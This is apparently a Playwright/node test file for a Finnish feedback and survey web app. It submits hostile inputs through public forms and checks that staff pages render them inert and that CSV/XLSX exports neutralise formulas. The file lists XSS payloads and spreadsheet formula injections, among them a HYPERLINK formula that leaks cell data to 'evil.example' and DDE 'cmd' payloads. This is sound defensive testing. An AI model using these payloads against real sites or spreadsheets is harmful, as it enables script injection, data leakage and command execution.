import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import ExcelJS from 'exceljs';
import { analysePending } from '../src/analysis/analysis-job.ts';
import { offlineProvider } from '../src/analysis/provider.ts';
import { refreshRollup } from '../src/reports/refresh-rollup.ts';
import { helsinkiToday } from '../src/shared/i18n/format.ts';
import { browserSuite, signInAt } from './helpers/browser.ts';
import { Client } from './helpers/http.ts';

/** What an attacker types: script and markup that would run if rendered as HTML, and formulas for spreadsheets. */
const payloads = [
  '<script>window.pwned = "script"</script>',
  '"><img src=x onerror="window.pwned=\'img\'">',
  '<svg onload="window.pwned=\'svg\'"></svg>',
  "'><iframe srcdoc=\"<script>parent.pwned='iframe'</script>\">",
  '<a href="javascript:window.pwned=\'link\'">klikkaa</a>',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Avaa")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
const formulas = payloads.filter((p) => /^[=+@-]/.test(p));

describe('hostile input through every public form, read by staff in Chromium', () => {
  const w = browserSuite(async () => undefined, {
    demo: 'analysed',
    ready: async ({ db, app }) => {
      const unit = (
        await db.query<{ code: string }>(
          "select code from org_node where parent_id = (select id from org_node where code = 'TER-VAS') and kind = 'unit' order by code limit 1",
        )
      )[0]!.code;
      const qr = (
        await db.query<{ code: string }>(
          "select cp.code from collection_point cp join org_node n on n.id = cp.node_id where n.code = $1 and cp.channel = 'qr' and cp.survey_id = 'thl-national'",
          [unit],
        )
      )[0]!.code;
      const resident = new Client(app);
      for (const text of payloads) {
        // free-form feedback: text and name
        const fb = await resident.post(
          '/palaute',
          { action: 'send', category: 'TER', target: unit, text: `Palaute ${text}`, name: text.slice(0, 100), email: 'hyokkaaja@example.fi' },
          { csrf: false },
        );
        assert.equal(fb.statusCode, 303, 'stored as text');
        // the survey's open answer
        const form = await resident.get(`/s/${qr}`);
        const nonce = /name="_nonce" value="([^"]+)"/.exec(form.body)![1]!;
        const steps = /\((\d+)\/(\d+)\)<\/title>/.exec(form.body)?.[2] ?? '2';
        assert.equal(
          (
            await resident.post(
              `/s/${qr}`,
              { _nonce: nonce, _step: steps, _lang: 'fi', _action: 'submit', q_nps: '3', q_nps_open: `Avoin ${text}` },
              { csrf: false },
            )
          ).statusCode,
          303,
        );
        // a council application
        const call = (await db.query<{ id: number }>('select id from council_call limit 1'))[0]!.id;
        await resident.post(
          '/asiakasraati',
          { call: String(call), name: text.slice(0, 200), contact: 'hakija@example.fi', municipality: text.slice(0, 80), motivation: text, consent: 'yes' },
          { csrf: false },
        );
      }
      await refreshRollup(db);
      await analysePending(db, offlineProvider, Number.POSITIVE_INFINITY);
    },
  });

  /** Opens a page as staff and fails if anything the attacker wrote ran or became markup. */
  const assertInert = async (page: Page, url: string, mustShow: string) => {
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto(url);
    await page.waitForLoadState('load');
    assert.equal(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned), undefined, `nothing ran on ${url}`);
    assert.deepEqual(dialogs, []);
    assert.equal(
      await page.locator('main script, main iframe, main img[src="x"], main svg[onload], main a[href^="javascript:"]').count(),
      0,
      `no markup from input on ${url}`,
    );
    if (mustShow) assert.ok((await page.locator('main').innerText()).includes(mustShow), `the payload is shown as text on ${url}`);
  };

  it('shows the feedback, its sender and the exports as text: nothing runs, formulas are neutralised', async () => {
    const page = await (await w.browser.newContext({ locale: 'fi-FI', acceptDownloads: true })).newPage();
    await signInAt(page, `${w.base}/admin/feedback`, 'handler', 'demo');
    await page.getByRole('heading', { level: 1 }).waitFor();
    await assertInert(page, `${w.base}/admin/feedback`, '');
    const refs = await w.db.query<{ id: number }>("select id from feedback where contact_email = 'hyokkaaja@example.fi' order by id");
    for (const [i, r] of refs.entries()) await assertInert(page, `${w.base}/admin/feedback/${r.id}`, `Palaute ${payloads[i]}`);

    const month = helsinkiToday().slice(0, 7);
    const csv = await page.request.get(`${w.base}/admin/feedback/export.csv?node=TER-VAS&from=${month}&to=${month}`);
    const text = await csv.text();
    for (const f of formulas) {
      assert.ok(text.includes(`'${f.replace(/"/g, '""')}`), `the name ${f} starts with an apostrophe in the CSV`);
      assert.ok(!new RegExp(`(^|,)"?${f.replace(/[.*+?^${}()|[\]\\]/g, '\\$&').replace(/"/g, '""')}`, 'm').test(text), `no cell starts with ${f}`);
    }
    const xlsx = await page.request.get(`${w.base}/admin/feedback/export.xlsx?node=TER-VAS&from=${month}&to=${month}`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await xlsx.body()) as unknown as ArrayBuffer);
    const cells: unknown[] = [];
    book.worksheets[0]!.eachRow((row) => row.eachCell((c) => cells.push(c.value)));
    assert.ok(
      cells.every((v) => typeof v !== 'object' || v === null || v instanceof Date),
      'no formula cells',
    );
    for (const f of formulas) assert.ok(cells.includes(`'${f}`), `${f} kept as text`);
  });

  it('shows open answers in the portal and applications to the coordinator as text', async () => {
    const manager = await (await w.browser.newContext({ locale: 'fi-FI' })).newPage();
    await signInAt(manager, `${w.base}/portal`, 'manager', 'demo');
    await manager.getByRole('heading', { level: 1 }).waitFor();
    const today = helsinkiToday();
    await assertInert(manager, `${w.base}/portal/texts?node=TER-VAS&from=${today}&to=${today}`, 'Avoin <script>');

    const coordinator = await (await w.browser.newContext({ locale: 'fi-FI' })).newPage();
    await signInAt(coordinator, `${w.base}/admin/participation`, 'coordinator', 'demo');
    await coordinator.getByRole('heading', { level: 1 }).waitFor();
    const council = (await w.db.query<{ id: number }>('select min(id)::int as id from council'))[0]!.id;
    await assertInert(coordinator, `${w.base}/admin/participation/councils/${council}`, payloads[0]!.slice(0, 20));
    for (const a of await w.db.query<{ id: number; motivation: string }>("select id, motivation from council_application where email = 'hakija@example.fi'")) {
      await assertInert(coordinator, `${w.base}/admin/participation/applications/${a.id}`, a.motivation);
    }
  });
});
